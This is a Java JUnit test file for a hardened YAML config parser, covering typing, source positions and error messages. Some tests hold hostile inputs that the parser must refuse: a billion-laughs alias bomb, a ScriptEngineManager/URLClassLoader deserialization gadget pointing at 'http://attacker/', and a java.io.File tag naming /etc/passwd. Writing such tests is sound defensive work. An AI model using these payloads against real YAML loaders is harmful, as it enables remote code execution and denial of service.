package org.openautoglm.config.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigInteger;
import java.time.Duration;
import org.assertj.core.api.SoftAssertions;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openautoglm.config.source.ConfigException;
import org.openautoglm.config.source.Diagnostic;
import org.openautoglm.config.source.LoadLimits;
import org.openautoglm.config.source.SourceFile;
import org.openautoglm.config.source.SourcePosition;

class YamlDocumentParserTest {
  /** A hang guard for hostile input, not a benchmark: each is refused in well under a second. */
  private static final Duration HANG_GUARD = Duration.ofSeconds(5);

  private static PositionedDocument parse(String text) {
    return parse(text, LoadLimits.DEFAULT);
  }

  private static PositionedDocument parse(String text, LoadLimits limits) {
    SourceFile source = new SourceFile("config.yaml", text);
    return new YamlDocumentParser(limits).parse(source, source::position);
  }

  private static Diagnostic rejection(ThrowingCallable parse) {
    Throwable thrown = catchThrowable(parse);
    assertThat(thrown).isInstanceOf(ConfigException.class);
    return ((ConfigException) thrown).diagnostic();
  }

  private static Diagnostic rejectionOf(String text) {
    return rejection(() -> parse(text));
  }

  private static Diagnostic hostile(String text, LoadLimits limits) {
    return assertTimeoutPreemptively(HANG_GUARD, () -> rejection(() -> parse(text, limits)));
  }

  private static SourcePosition valueAt(String text, String pointer) {
    SourceFile source = new SourceFile("config.yaml", text);
    PositionedDocument document =
        new YamlDocumentParser(LoadLimits.DEFAULT).parse(source, source::position);
    assertThat(document.has(pointer)).as("document has %s", pointer).isTrue();
    return source.position(document.span(pointer).start());
  }

  private static SourcePosition keyAt(String text, String pointer) {
    SourceFile source = new SourceFile("config.yaml", text);
    PositionedDocument document =
        new YamlDocumentParser(LoadLimits.DEFAULT).parse(source, source::position);
    return source.position(document.offsetForReport(pointer));
  }

  private static final String NESTED =
      String.join(
          "\n",
          "# a comment line",
          "server:",
          "  host: example.com",
          "  ports:",
          "    - 80",
          "    - name: https",
          "      port: 443",
          "  limits: {cpu: 2, memory: 4Gi}",
          "");

  @Test
  void shouldPositionNestedValuesAtTheirFirstCharacter() {
    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(valueAt(NESTED, "/server")).hasToString("config.yaml:3:3");
    softly.assertThat(valueAt(NESTED, "/server/host")).hasToString("config.yaml:3:9");
    softly.assertThat(valueAt(NESTED, "/server/ports")).hasToString("config.yaml:5:5");
    softly.assertThat(valueAt(NESTED, "/server/ports/0")).hasToString("config.yaml:5:7");
    softly.assertThat(valueAt(NESTED, "/server/ports/1")).hasToString("config.yaml:6:7");
    softly.assertThat(valueAt(NESTED, "/server/ports/1/port")).hasToString("config.yaml:7:13");
    softly.assertThat(valueAt(NESTED, "/server/limits")).hasToString("config.yaml:8:11");
    softly.assertThat(valueAt(NESTED, "/server/limits/memory")).hasToString("config.yaml:8:28");
    softly.assertAll();
  }

  @Test
  void shouldReportMappingEntriesAtTheirKey() {
    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(keyAt(NESTED, "/server")).hasToString("config.yaml:2:1");
    softly.assertThat(keyAt(NESTED, "/server/host")).hasToString("config.yaml:3:3");
    softly.assertThat(keyAt(NESTED, "/server/ports/1/port")).hasToString("config.yaml:7:7");
    softly.assertThat(keyAt(NESTED, "/server/limits/memory")).hasToString("config.yaml:8:20");
    // a list item has no key: the item itself
    softly.assertThat(keyAt(NESTED, "/server/ports/0")).hasToString("config.yaml:5:7");
    softly.assertAll();
  }

  @Test
  void shouldFallBackToTheNearestAncestorForAnAbsentPointer() {
    SourceFile source = new SourceFile("config.yaml", NESTED);
    PositionedDocument document =
        new YamlDocumentParser(LoadLimits.DEFAULT).parse(source, source::position);

    assertThat(document.has("/server/missing")).isFalse();
    assertThat(source.position(document.span("/server/missing").start()))
        .hasToString("config.yaml:3:3");
  }

  @Test
  void shouldCountColumnsInCodePointsAfterCharactersOutsideTheBasicPlane() {
    String text = "k: {e: \"\uD83D\uDE00\uD83D\uDE00\", v: 1}\nz: 2\n";

    SoftAssertions softly = new SoftAssertions();
    // k:·{e:·"😀😀",·v:·1} — each emoji is one column although it is two chars
    softly.assertThat(valueAt(text, "/k/v")).hasToString("config.yaml:1:17");
    softly.assertThat(keyAt(text, "/k/v")).hasToString("config.yaml:1:14");
    softly.assertThat(valueAt(text, "/z")).hasToString("config.yaml:2:4");
    softly.assertAll();
  }

  @Test
  void shouldKeepYaml11BooleansAndDatesAsStrings() {
    JsonNode root =
        parse(
                "country: NO\nanswer: yes\nswitch: on\nnegative: off\ny: y\n"
                    + "date: 2024-01-01\ntimestamp: 2024-01-01T10:00:00Z\nversion: 1.10\n")
            .root();

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(root.get("country").isTextual()).isTrue();
    softly.assertThat(root.get("country").asText()).isEqualTo("NO");
    softly.assertThat(root.get("answer").asText()).isEqualTo("yes");
    softly.assertThat(root.get("answer").isTextual()).isTrue();
    softly.assertThat(root.get("switch").isTextual()).isTrue();
    softly.assertThat(root.get("negative").isTextual()).isTrue();
    softly.assertThat(root.get("y").isTextual()).isTrue();
    softly.assertThat(root.get("date").isTextual()).isTrue();
    softly.assertThat(root.get("date").asText()).isEqualTo("2024-01-01");
    softly.assertThat(root.get("timestamp").asText()).isEqualTo("2024-01-01T10:00:00Z");
    // a float stays a float (1.1), it is not a version string
    softly.assertThat(root.get("version").isDouble()).isTrue();
    softly.assertAll();
  }

  @Test
  void shouldKeepYaml11KeysAsStrings() {
    JsonNode root = parse("on: 1\nno: 2\n1: a\nnull: b\n").root();

    assertThat(root.fieldNames()).toIterable().containsExactly("on", "no", "1", "null");
  }

  @ParameterizedTest(name = "{0} is {1}")
  @CsvSource(
      delimiter = '|',
      value = {
        "true     | true",
        "True     | true",
        "FALSE    | false",
        "~        | null",
        "null     | null",
        "NULL     | null",
        "0x1F     | 31",
        "0o17     | 15",
        "017      | 17",
        "+12      | 12",
        "-7       | -7",
        "1_000    | \"1_000\"",
        "0b101    | \"0b101\"",
        "-0x1     | \"-0x1\"",
        "1.5e3    | 1500.0",
        ".5       | 0.5",
        "1.       | 1.0",
      })
  void shouldTypePlainScalarsByTheCoreSchema(String yaml, String json) {
    JsonNode value = parse("v: " + yaml + "\n").root().get("v");

    assertThat(value).hasToString(json);
  }

  @Test
  void shouldKeepIntegersBeyondLongAsBigIntegers() {
    JsonNode root =
        parse("int: 42\nlong: 9223372036854775807\nbig: 123456789012345678901234567890\n").root();

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(root.get("int").isInt()).isTrue();
    softly.assertThat(root.get("long").isLong()).isTrue();
    softly.assertThat(root.get("long").longValue()).isEqualTo(Long.MAX_VALUE);
    softly.assertThat(root.get("big").isBigInteger()).isTrue();
    softly
        .assertThat(root.get("big").bigIntegerValue())
        .isEqualTo(new BigInteger("123456789012345678901234567890"));
    softly.assertAll();
  }

  @Test
  void shouldReadInfinityAndNotANumberAsDoubles() {
    JsonNode root = parse("inf: .inf\nup: +.Inf\nminus: -.INF\nnan: .NaN\n").root();

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(root.get("inf").doubleValue()).isEqualTo(Double.POSITIVE_INFINITY);
    softly.assertThat(root.get("up").doubleValue()).isEqualTo(Double.POSITIVE_INFINITY);
    softly.assertThat(root.get("minus").doubleValue()).isEqualTo(Double.NEGATIVE_INFINITY);
    softly.assertThat(root.get("nan").doubleValue()).isNaN();
    softly.assertThat(root.get("inf").isDouble()).isTrue();
    softly.assertAll();
  }

  @Test
  void shouldAcceptExplicitCoreTagsThatFitTheirValue() {
    JsonNode root = parse("s: !!str 123\ni: !!int \"5\"\nf: !!float 5\nm: !!map {a: 1}\n").root();

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(root.get("s")).isEqualTo(JsonNodeFactory.instance.textNode("123"));
    softly.assertThat(root.get("i").isInt()).isTrue();
    softly.assertThat(root.get("f").isDouble()).isTrue();
    softly.assertThat(root.get("f").doubleValue()).isEqualTo(5.0);
    softly.assertThat(root.get("m").get("a").intValue()).isEqualTo(1);
    softly.assertAll();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "!!int abc   | 'abc' is not a valid tag:yaml.org,2002:int",
        "!!float abc | 'abc' is not a valid tag:yaml.org,2002:float",
        "!!bool maybe | 'maybe' is not a valid tag:yaml.org,2002:bool",
        "!!null text | 'text' is not a valid tag:yaml.org,2002:null",
      })
  void shouldRefuseAnExplicitCoreTagThatDoesNotFitItsValue(String yaml, String message) {
    Diagnostic error = rejectionOf("a: 1\nv: " + yaml + "\n");

    assertThat(error.position()).hasToString("config.yaml:2:4");
    assertThat(error.message()).startsWith(message).endsWith("fix the value or remove the tag");
  }

  @Test
  void shouldMergeKeysWithExplicitKeysWinning() {
    JsonNode root =
        parse(
                "base: &base {image: trainer, gpus: 1}\n"
                    + "extra: &extra {gpus: 8, nodes: 2}\n"
                    + "one:\n  <<: *base\n  gpus: 4\n"
                    + "many:\n  <<: [*base, *extra]\n")
            .root();

    SoftAssertions softly = new SoftAssertions();
    softly.assertThat(root.get("one").get("gpus").intValue()).isEqualTo(4);
    softly.assertThat(root.get("one").get("image").asText()).isEqualTo("trainer");
    softly.assertThat(root.get("one").has("<<")).isFalse();
    softly.assertThat(root.get("one").size()).isEqualTo(2);
    // in a list of merged mappings the first one wins
    softly.assertThat(root.get("many").get("gpus").intValue()).isEqualTo(1);
    softly.assertThat(root.get("many").get("nodes").intValue()).isEqualTo(2);
    softly.assertAll();
  }

  @Test
  void shouldReadALoneMergeSymbolAsText() {
    JsonNode root = parse("a: <<\nb: [<<]\n").root();

    assertThat(root.get("a").asText()).isEqualTo("<<");
    assertThat(root.get("b").get(0).asText()).isEqualTo("<<");
  }

  @Test
  void shouldReadQuotedScalarsAsStrings() {
    JsonNode root = parse("a: \"5\"\nb: '~'\nc: 'true'\nd: \"\"\n").root();

    assertThat(root.get("a")).isEqualTo(JsonNodeFactory.instance.textNode("5"));
    assertThat(root.get("b")).isEqualTo(JsonNodeFactory.instance.textNode("~"));
    assertThat(root.get("c")).isEqualTo(JsonNodeFactory.instance.textNode("true"));
    assertThat(root.get("d")).isEqualTo(JsonNodeFactory.instance.textNode(""));
  }

  @Test
  void shouldExpandScalarAliases() {
    JsonNode root = parse("a: &x 1\nb: *x\n").root();

    assertThat(root.get("b").intValue()).isEqualTo(1);
  }

  @Test
  void shouldReadAnEmptyDocumentAsNull() {
    assertThat(parse("").root().isNull()).isTrue();
    assertThat(parse("# only a comment\n").root().isNull()).isTrue();
  }

  @Test
  void shouldAcceptOneDocumentWithAnExplicitStart() {
    assertThat(parse("---\na: 1\n").root().get("a").intValue()).isEqualTo(1);
  }

  @Test
  void shouldRefuseBillionLaughsAtTheAliasOverTheLimit() {
    StringBuilder text = new StringBuilder("a0: &a0 [\"lol\"]\n");
    for (int level = 1; level <= 9; level++) {
      text.append("a").append(level).append(": &a").append(level).append(" [");
      for (int alias = 0; alias < 9; alias++) {
        text.append(alias == 0 ? "" : ", ").append("*a").append(level - 1);
      }
      text.append("]\n");
    }

    Diagnostic error = hostile(text.toString(), LoadLimits.DEFAULT);

    // 9 aliases per level: the 51st is the 6th on line 7 (a6), at column 10 + 5 * 5
    assertThat(error.position()).hasToString("config.yaml:7:35");
    assertThat(error.message())
        .isEqualTo("too many aliases to collections (a possible alias bomb); the limit is 50");
  }

  @Test
  void shouldStopAnAliasFanOutUnderTheAliasLimitByItsNodeCount() {
    // 20 levels of 2 aliases each: 40 aliases (under the limit of 50) expanding to 2^20 copies
    StringBuilder text = new StringBuilder("l0: &l0 [x, y]\n");
    for (int level = 1; level <= 20; level++) {
      text.append("l").append(level).append(": &l").append(level).append(" [*l");
      text.append(level - 1).append(", *l").append(level - 1).append("]\n");
    }

    Diagnostic error = hostile(text.toString(), LoadLimits.DEFAULT);

    assertThat(error.message())
        .isEqualTo(
            "document expands to more than 500000 nodes (aliases expand in place); this looks"
                + " like an alias bomb");
    // sizes are counted before expanding: l17 is the first node that alone exceeds the budget
    // (l16 expands to about 262,000 nodes, l17 to about 524,000), so the error is at its anchor
    assertThat(error.position()).hasToString("config.yaml:18:6");
  }

  @Test
  void shouldStopAFanOutAtASmallerNodeBudget() {
    String text = "a: &a [1, 2, 3]\nb: [*a, *a, *a]\n";

    Diagnostic error = hostile(text, new LoadLimits(1024, 50, 50, 10));

    assertThat(error.message()).startsWith("document expands to more than 10 nodes");
    // nodes (keys are not): a's list expands to 4, b's list to 1 + 3 × 4 = 13: b's list is the
    // smallest node that alone exceeds the budget of 10
    assertThat(error.position()).hasToString("config.yaml:2:4");
  }

  @Test
  void shouldRefuseSixtyLevelsOfFlowNesting() {
    String text = "a: " + "[".repeat(60) + "]".repeat(60) + "\n";

    Diagnostic error = hostile(text, LoadLimits.DEFAULT);

    // the limit admits 51 nested nodes (depth 0 to 50), here the mapping and 50 lists;
    // the 51st '[' (column 3 + 51) would be the 52nd
    assertThat(error.position()).hasToString("config.yaml:1:54");
    assertThat(error.message())
        .isEqualTo("nesting is deeper than the limit (50 levels); flatten the document");
  }

  @Test
  void shouldRefuseSixtyLevelsOfBlockNesting() {
    StringBuilder text = new StringBuilder();
    for (int level = 0; level < 60; level++) {
      text.append("  ".repeat(level)).append("k").append(level).append(":\n");
    }
    text.append("  ".repeat(60)).append("leaf\n");

    Diagnostic error = hostile(text.toString(), LoadLimits.DEFAULT);

    // k50 is a key in the 51st mapping, so the key itself is nested 52 deep: line 51, indented 100
    assertThat(error.position()).hasToString("config.yaml:51:101");
    assertThat(error.message()).contains("nesting is deeper than the limit (50 levels)");
  }

  @Test
  void shouldAcceptNestingAtTheLimit() {
    // 51 lists: levels 0..50
    String text = "[".repeat(51) + "]".repeat(51);

    assertThat(parse(text).root().isArray()).isTrue();
    assertThat(rejectionOf("[".repeat(52) + "]".repeat(52)).position())
        .hasToString("config.yaml:1:52");
  }

  @Test
  void shouldHonourALowerDepthLimit() {
    Diagnostic error = hostile("a:\n  b:\n    c: 1\n", LoadLimits.DEFAULT.withMaxDepth(2));

    assertThat(error.message()).contains("(2 levels)");
    assertThat(error.position()).hasToString("config.yaml:3:5");
  }

  @Test
  void shouldRefuseARecursiveAlias() {
    Diagnostic error = hostile("top: 1\na: &a [*a]\n", LoadLimits.DEFAULT);

    assertThat(error.position()).hasToString("config.yaml:2:4");
    assertThat(error.message())
        .isEqualTo(
            "an alias refers to a node that contains it; recursive documents are not allowed");
  }

  @Test
  void shouldRefuseARecursiveMapping() {
    Diagnostic error = hostile("a: &a\n  self: *a\n", LoadLimits.DEFAULT);

    assertThat(error.message()).contains("recursive documents are not allowed");
    // the mapping that holds the alias starts at its anchor
    assertThat(error.position()).hasToString("config.yaml:1:4");
  }

  @Test
  void shouldRefuseAGlobalTagNamingAJavaClass() {
    String text =
        "ok: 1\nx: !!javax.script.ScriptEngineManager"
            + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n";

    Diagnostic error = hostile(text, LoadLimits.DEFAULT);

    assertThat(error.position()).hasToString("config.yaml:2:4");
    assertThat(error.message())
        .isEqualTo(
            "YAML tags that name types are not allowed"
                + " (tag:yaml.org,2002:javax.script.ScriptEngineManager); remove the tag");
  }

  @Test
  void shouldRefuseAVerbatimGlobalTag() {
    Diagnostic error =
        hostile("x: !<tag:yaml.org,2002:java.io.File> [/etc/passwd]\n", LoadLimits.DEFAULT);

    assertThat(error.position()).hasToString("config.yaml:1:4");
    assertThat(error.message()).contains("tag:yaml.org,2002:java.io.File");
  }

  @Test
  void shouldRefuseALocalTagOnAScalar() {
    Diagnostic error = rejectionOf("a: 1\nb: !custom value\n");

    assertThat(error.position()).hasToString("config.yaml:2:4");
    assertThat(error.message())
        .isEqualTo(
            "YAML tag !custom is not allowed; only strings, numbers, booleans and null are (remove"
                + " the tag)");
  }

  @Test
  void shouldRefuseALocalTagOnACollection() {
    Diagnostic error = rejectionOf("a: !custom {b: 1}\nc: !other [1]\n");

    assertThat(error.position()).hasToString("config.yaml:1:4");
    assertThat(error.message()).startsWith("YAML tag !custom is not allowed");
  }

  @Test
  void shouldRefuseYaml11CollectionTypes() {
    assertThat(rejectionOf("s: !!set {a, b}\n").message())
        .startsWith("YAML tag tag:yaml.org,2002:set is not allowed");
    assertThat(rejectionOf("o: !!omap [a: 1]\n").message())
        .startsWith("YAML tag tag:yaml.org,2002:omap is not allowed");
  }

  @Test
  void shouldRefuseBinary() {
    Diagnostic error = rejectionOf("key: !!binary aGVsbG8=\n");

    assertThat(error.position()).hasToString("config.yaml:1:6");
    assertThat(error.message())
        .startsWith("YAML tag tag:yaml.org,2002:binary is not allowed; only strings, numbers");
  }

  @Test
  void shouldRefuseATagFromATagDirective() {
    Diagnostic error = rejectionOf("%TAG !e! tag:example.com,2000:\n---\nx: !e!foo 1\n");

    assertThat(error.position()).hasToString("config.yaml:3:4");
    assertThat(error.message()).startsWith("YAML tag tag:example.com,2000:foo is not allowed");
  }

  @Test
  void shouldRejectDuplicateKeysWithBothPositions() {
    Diagnostic error = rejectionOf("a: 1\nb:\n  c: 2\n  d: 3\n  c: 4\n");

    assertThat(error.position()).hasToString("config.yaml:5:3");
    assertThat(error.message())
        .isEqualTo("duplicate key 'c' (first defined at config.yaml:3:3); remove one of them");
  }

  @Test
  void shouldRejectDuplicateKeysInFlowMappings() {
    Diagnostic error = rejectionOf("x: {a: 1, a: 2}\n");

    assertThat(error.position()).hasToString("config.yaml:1:11");
    assertThat(error.message()).contains("first defined at config.yaml:1:5");
  }

  @Test
  void shouldRejectKeysThatDifferOnlyInQuoting() {
    Diagnostic error = rejectionOf("port: 1\n\"port\": 2\n");

    assertThat(error.message())
        .startsWith("duplicate key 'port' (first defined at config.yaml:1:1)");
  }

  @Test
  void shouldRefuseComplexKeys() {
    Diagnostic error = rejectionOf("a: 1\n? [x, y]\n: value\n");

    assertThat(error.position()).hasToString("config.yaml:2:3");
    assertThat(error.message())
        .isEqualTo("mapping keys must be plain strings, not collections; rewrite the key");
    assertThat(rejectionOf("{a: 1}: x\n").position()).hasToString("config.yaml:1:1");
  }

  @Test
  void shouldRefuseASecondDocument() {
    Diagnostic error = rejectionOf("a: 1\n---\nb: 2\n");

    assertThat(error.position()).hasToString("config.yaml:2:1");
    assertThat(error.message())
        .isEqualTo(
            "invalid YAML: but found another document (expected a single document in the"
                + " stream)");
  }

  @Test
  void shouldReportSyntaxErrorsWhereTheParserStopped() {
    SoftAssertions softly = new SoftAssertions();
    Diagnostic colon = rejectionOf("a: b: c\n");
    softly.assertThat(colon.position()).hasToString("config.yaml:1:5");
    softly
        .assertThat(colon.message())
        .isEqualTo("invalid YAML: mapping values are not allowed here");
    Diagnostic tab = rejectionOf("a:\n\t- 1\n");
    softly.assertThat(tab.position()).hasToString("config.yaml:2:1");
    softly.assertThat(tab.message()).contains("TAB");
    Diagnostic alias = rejectionOf("a: 1\nb: *nope\n");
    softly.assertThat(alias.position()).hasToString("config.yaml:2:4");
    softly.assertThat(alias.message()).isEqualTo("invalid YAML: found undefined alias nope");
    softly.assertAll();
  }

  @Test
  void shouldReportErrorsAtThePositionsTheLocatorGives() {
    SourceFile source = new SourceFile("rendered.yaml", "a: 1\na: 2\n");
    Throwable thrown =
        catchThrowable(
            () ->
                new YamlDocumentParser(LoadLimits.DEFAULT)
                    .parse(source, offset -> new SourcePosition("template.yaml", 40, offset + 1)));

    Diagnostic error = ((ConfigException) thrown).diagnostic();
    assertThat(error.position()).hasToString("template.yaml:40:6");
    assertThat(error.message()).contains("first defined at template.yaml:40:1");
  }
}
